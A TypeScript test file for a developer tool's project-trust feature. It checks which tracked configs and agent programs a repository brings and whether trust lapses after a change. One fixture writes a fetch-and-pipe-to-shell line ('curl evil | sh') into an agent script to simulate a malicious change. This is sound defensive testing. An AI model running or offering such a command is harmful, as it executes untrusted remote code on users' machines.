// What a repository brings, as git tracks it, and what its user has agreed to.
import { mkdirSync, readFileSync, symlinkSync } from 'node:fs'
import path from 'node:path'
import { describe, expect, test } from 'vitest'
import { broughtPrograms } from '../../../src/adapters/trust/brought-programs.js'
import {
  projectTrust,
  requireTrust,
  revokeTrust,
  trustProject,
} from '../../../src/adapters/trust/project-trust.js'
import { layout, projectKey } from '../../../src/adapters/state-dir.js'
import { makeRepo, tempDir, tempDirs, writeFiles } from '../../support/repositories/repos.js'

const AGENT = { agents: { mine: { protocol: 'exec', command: './agent.sh' } } }
const config = (settings: object): Record<string, string> => ({
  'ratchet.config.json': JSON.stringify(settings),
})
const what = async (project: string): Promise<string[]> =>
  (await broughtPrograms(project)).map((item) => item.what)

describe('what a repository brings', () => {
  test('a repository with tests alone brings nothing', async () => {
    expect(await what(makeRepo())).toEqual([])
  })

  test('tracked configuration counts, and the program that it names', async () => {
    const project = makeRepo({ ...config(AGENT), 'agent.sh': 'echo' })
    expect(await what(project)).toEqual([
      'agents.mine.command',
      'agents.mine.output',
      'agents.mine.protocol',
      'agent.sh',
    ])
  })

  test("a configuration that git does not track is the user's own", async () => {
    const project = makeRepo()
    writeFiles(project, config(AGENT))
    expect(await what(project)).toEqual([])
  })

  test('the ratchet key of a tracked package.json counts', async () => {
    const project = makeRepo({
      'package.json': JSON.stringify({ ratchet: { permissions: 'allow' } }),
    })
    expect(await what(project)).toEqual(['permissions'])
  })

  test('a committed agent program in node_modules counts, an installed one does not', async () => {
    const files = { 'node_modules/.bin/claude-agent-acp': '#!/bin/sh\n' }
    const [committed, installed] = [makeRepo(files), makeRepo({ '.gitignore': 'node_modules\n' })]
    writeFiles(installed, files)
    expect(await what(committed)).toEqual(['node_modules/.bin/claude-agent-acp'])
    expect(await what(installed)).toEqual([])
  })

  test('a link to a committed program counts', async () => {
    const project = makeRepo({ '.gitignore': 'node_modules\n', 'tools/evil.sh': '#!/bin/sh\n' })
    mkdirSync(path.join(project, 'node_modules/.bin'), { recursive: true })
    symlinkSync('../../tools/evil.sh', path.join(project, 'node_modules/.bin/claude-agent-acp'))
    expect(await what(project)).toEqual(['node_modules/.bin/claude-agent-acp'])
  })

  test('a committed session counts', async () => {
    expect(await what(makeRepo({ '.workflow/active/WFS-x/workflow-session.json': '{}' }))).toEqual([
      '.workflow',
    ])
  })

  test('in a subfolder of its repository', async () => {
    const root = makeRepo({
      'app/ratchet.config.json': JSON.stringify({ permissions: 'allow' }),
      'app/.workflow/a': 'x',
      '.workflow/b': 'x',
    })
    expect(await what(path.join(root, 'app'))).toEqual(['permissions', '.workflow'])
  })

  test("without git every file counts as the repository's", async () => {
    const project = tempDir()
    writeFiles(project, config({ permissions: 'allow' }))
    expect(await what(project)).toEqual(['permissions'])
  })
})

describe('trust', () => {
  const untrusted = { type: 'NotTrusted' }

  test('it is asked for once, and again after a change, with what changed', async () => {
    const dirs = tempDirs()
    const project = makeRepo({ ...config(AGENT), 'agent.sh': 'echo' })
    await expect(requireTrust(dirs, project, {})).rejects.toMatchObject({
      ...untrusted,
      where: project,
      message: expect.stringContaining('agents.mine.command') as unknown,
      next: expect.stringContaining('ratchet trust') as unknown,
    })
    await trustProject(dirs, project, await broughtPrograms(project))
    await requireTrust(dirs, project, {})

    writeFiles(project, { 'agent.sh': 'curl evil | sh' })
    await expect(requireTrust(dirs, project, {})).rejects.toMatchObject({
      message: 'the repository has changed what it runs since you trusted it: agent.sh',
    })
  })

  test('it is revoked, belongs to one directory, and only its user can read it', async () => {
    const dirs = tempDirs()
    const [project, other] = [makeRepo(config(AGENT)), makeRepo(config(AGENT))]
    await trustProject(dirs, project, await broughtPrograms(project))
    await expect(requireTrust(dirs, other, {})).rejects.toMatchObject(untrusted)
    const file = layout.trust(dirs, projectKey(project))
    expect(JSON.parse(readFileSync(file, 'utf8'))).toMatchObject({ path: project })
    expect(await revokeTrust(dirs, project)).toBe(true)
    expect(await revokeTrust(dirs, project)).toBe(false)
    await expect(requireTrust(dirs, project, {})).rejects.toMatchObject(untrusted)
  })

  test('RATCHET_TRUST=1 says yes, any other value does not', async () => {
    const [dirs, project] = [tempDirs(), makeRepo(config(AGENT))]
    expect((await projectTrust(dirs, project, { RATCHET_TRUST: '1' })).state).toBe('trusted')
    expect((await projectTrust(dirs, project, { RATCHET_TRUST: '0' })).state).toBe('untrusted')
  })

  test('a damaged file is no trust', async () => {
    const [dirs, project] = [tempDirs(), makeRepo(config(AGENT))]
    await trustProject(dirs, project, await broughtPrograms(project))
    writeFiles(path.dirname(layout.trust(dirs, projectKey(project))), {
      [path.basename(layout.trust(dirs, projectKey(project)))]: '{"path": ',
    })
    await expect(requireTrust(dirs, project, {})).rejects.toMatchObject(untrusted)
  })
})
